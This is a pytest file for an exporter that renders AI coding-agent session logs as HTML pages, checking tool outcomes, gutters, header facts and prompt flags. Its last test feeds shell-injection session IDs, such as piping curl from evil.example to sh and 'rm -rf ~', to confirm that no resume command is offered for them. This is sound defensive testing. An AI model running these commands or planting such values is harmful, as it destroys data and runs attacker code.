"""What the page's reading aids take from the exporter: tool outcomes and targets, Read gutters,
the typed-prompt flag, tool names per reply, and the header's facts (issue 29)."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from sessiontree.exporter import render_session
from sessiontree.exporter.api import render_shell
from sessiontree.exporter.blocks import split_line_numbers
from sessiontree.exporter.images import ImageRegistry
from sessiontree.exporter.render import RenderContext, render_entry
from sessiontree.exporter.sections import duration_text
from sessiontree.exporter.tools import call_target, render_call, render_result
from sessiontree.readers import load_any
from tests.conftest import REAL, need_shared, real_file


def outcome(name: str, args: Any, text: str, details: Any = None, is_error: bool = False) -> str:
    message = {"content": [{"type": "text", "text": text}], "isError": is_error, "details": details}
    html = str(render_result("c1", name, args, message, ImageRegistry()))
    found = re.search(r'data-outcome="([^"]*)"', html)
    assert found, html
    return found[1]


def test_outcomes_say_what_happened_in_a_few_words() -> None:
    assert outcome("Edit", {"old_string": "a\nb\nc", "new_string": "a\nB\nC\nD"}, "ok") == "+3 \u22122"
    assert outcome("bash", {"command": "make"}, "oops\nExit code: 1", is_error=True) == "exit 1"
    assert outcome("bash", {"command": "ls"}, "a\nb\n") == "2 lines"
    assert outcome("bash", {"command": "true"}, "") == "no output"
    assert outcome("Read", {"file_path": "x.py"}, "     1\u2192a\n     2\u2192b\n     3\u2192c") == "3 lines"
    assert outcome("Grep", {"pattern": "x"}, "a.py\nb.py") == "2 results"
    assert outcome("mystery", {}, "boom", is_error=True) == "error"


def test_a_command_is_shown_once() -> None:
    one = str(render_call("c1", "bash", {"command": "ls -la"}))
    assert one.count("ls -la") == 2  # the head, and the copy source (a template, never shown)
    assert "$ ls -la" not in one
    many = str(render_call("c2", "bash", {"command": "cd x\nmake"}))
    assert "$ cd x\nmake" in many  # cut in the head, whole in the body


def test_read_line_numbers_become_a_gutter() -> None:
    text = "   977\u2192def f():\n   978\u2192    return 1\n\n<system-reminder>x</system-reminder>"
    numbers, code = split_line_numbers(text) or ([], "")
    assert numbers == ["977", "978", "", ""]
    assert code.startswith("def f():\n    return 1")
    html = str(render_result("c1", "Read", {"file_path": "a.py"}, {"content": text}, ImageRegistry()))
    gutter = re.search(r'<pre class="st-gutter" aria-hidden="true">(.*?)</pre>', html, re.S)
    assert gutter and gutter[1].startswith("977\n978")
    assert "\u2192" not in html
    assert split_line_numbers("plain text\n  12\u2192x") is None


def test_tree_rows_of_results_name_tool_and_target() -> None:
    ctx = RenderContext()
    call = {"type": "toolCall", "id": "c1", "name": "bash", "arguments": {"command": "pytest -q\nrm x"}}
    assistant = {"id": "a", "type": "message", "message": {"role": "assistant", "content": [call]}}
    ctx.register(assistant)
    meta, _ = render_entry(assistant, ctx)
    assert meta["tools"] == ["bash"] and meta["calls"] == ["c1"]
    content = [{"type": "text", "text": "=====\nFAILED"}]
    res = {"role": "toolResult", "toolCallId": "c1", "content": content}
    meta, _ = render_entry({"id": "r", "parentId": "a", "type": "message", "message": res}, ctx)
    assert meta["preview"] == "bash pytest -q"
    assert call_target("Read", {"file_path": "a.py", "offset": 3, "limit": 2}) == "a.py:3-4"


CLAUDE_ID = "cb2e607c-c758-415a-8b45-c49e4631906a"
CODEX_ID = "019a93b9-f380-7600-98ff-940e6b99603c"
CLAUDE = f"claude/claude-code-log--test_test_data_real_projects_-Users-dain-workspace-coderabbit-review-helper_{CLAUDE_ID}.jsonl"  # noqa: E501
CODEX = f"codex/codex-session-view--.sample_session_rollout-2025-11-17T15-30-28-{CODEX_ID}.jsonl"


@pytest.mark.parametrize(
    ("agent", "name", "command"),
    [
        ("claude", CLAUDE, f"claude --resume {CLAUDE_ID}"),
        ("codex", CODEX, f"codex resume {CODEX_ID}"),
        ("pi", "pi/pi-mono--session.jsonl", "pi --resume 5fd1e58c-9635-410e-a644-133a96057c90"),
    ],
)
def test_header_names_agent_branch_span_and_resume_command(agent: str, name: str, command: str) -> None:
    need_shared("real agent sessions")
    session = load_any(real_file(name))
    header = render_shell(session).header_html
    assert f'data-copy="{command}"' in header
    assert not re.search(r'<span class="st-n">0</span>', header)  # no chip reads "0 ..."
    assert "st-duration" in header and '<time datetime="' in header
    if agent == "claude":
        assert 'Claude Code <span class="st-agent-version">2.0.37</span>' in header
        assert "fix/comment-attribution-and-pagination" in header
    if agent == "codex":
        assert "<code>main</code>" in header  # Codex records its git info
    assert duration_text(39 * 60 + 24) == "39 min 24 s"


def _typed_prompts(path: Path) -> int:
    """Count, from the raw file, the user lines a person typed (Claude Code's own format): never a
    subagent's (its task is the parent model's words); a prompt queued while a reply ran is one."""
    count = 0
    for line in path.read_text().splitlines():
        obj = json.loads(line)
        if obj.get("isSidechain"):
            continue
        if obj.get("type") == "attachment" and obj["attachment"].get("type") == "queued_command":
            count += 1
        if obj.get("type") != "user" or obj.get("isMeta") or obj.get("isCompactSummary"):
            continue
        content = obj["message"]["content"]
        texts = (
            [content]
            if isinstance(content, str)
            else [b.get("text", "") for b in content if b.get("type") == "text"]
        )
        text = "\n".join(texts)
        text = re.sub(r"<(ide_selection|ide_opened_file|system-reminder)>.*?</\1>", "", text, flags=re.S)
        if isinstance(content, list) and any(b.get("type") == "tool_result" for b in content):
            continue
        if text.strip() and not re.match(
            r"\s*(<command-|<local-command-|<bash-|\[Request interrupted)", text
        ):
            count += 1
    return count


def test_prompt_flag_marks_exactly_the_typed_prompts() -> None:
    need_shared("real Claude Code sessions")
    for path in sorted((REAL / "claude").glob("*.jsonl")):
        rendered = render_session(load_any(path), None)
        flagged = sum(1 for m in rendered.entries if m.get("prompt"))
        assert flagged == _typed_prompts(path), path.name


def test_each_reply_shows_the_context_its_request_sent() -> None:
    """ctx = input + cache read + cache write, counted from the raw Claude Code lines' usage."""
    need_shared("real Claude Code sessions")
    path = real_file(CLAUDE)
    sent: dict[str, int] = {}
    for line in path.read_text().splitlines():
        obj = json.loads(line)
        usage = obj.get("message", {}).get("usage") if obj.get("type") == "assistant" else None
        if usage:
            sent[obj["uuid"]] = sum(
                usage.get(k) or 0
                for k in ("input_tokens", "cache_read_input_tokens", "cache_creation_input_tokens")
            )
    session = load_any(path)
    ctx = RenderContext()
    shown = {}
    for entry in session.entries:
        ctx.register(entry)
        _meta, html = render_entry(entry, ctx)
        found = re.search(
            r'<span class="st-context"><abbr title="[^"]+">ctx</abbr> ([0-9.]+k?)</span>', str(html)
        )
        if found:
            shown[entry["id"]] = found[1]
    assert len(shown) > 20 and set(shown) == {e["id"] for e in session.entries if e["id"] in sent}
    for uid, figure in shown.items():
        n = sent[uid]
        assert figure == (str(n) if n < 1000 else f"{n / 1000:.1f}k".replace(".0k", "k")), uid
    assert max(sent.values()) >= 60_000 and any(v.endswith("k") for v in shown.values())


@pytest.mark.parametrize(
    ("session_id", "offered"),
    [
        ("0d3a8e6f-290f-4105-a327-a2496e5e2a83", True),
        ("x; curl evil.example | sh", False),
        ("$(touch pwned)", False),
        ("a\nrm -rf ~", False),
        ("-rf", False),
    ],
)
def test_a_resume_command_is_offered_only_for_an_id_a_shell_takes_as_one_word(
    tmp_path: Path, session_id: str, offered: bool
) -> None:
    line = {
        "type": "user", "uuid": "u1", "parentUuid": None, "sessionId": session_id, "cwd": "/w",
        "version": "2.1.0", "timestamp": "2026-01-01T10:00:00Z", "message": {"role": "user", "content": "hi"},
    }  # fmt: skip
    path = tmp_path / "s.jsonl"
    path.write_text(json.dumps(line) + "\n")
    header = render_shell(load_any(path)).header_html
    assert ("data-copy=" in header) is offered
    if offered:
        assert f'data-copy="claude --resume {session_id}"' in header
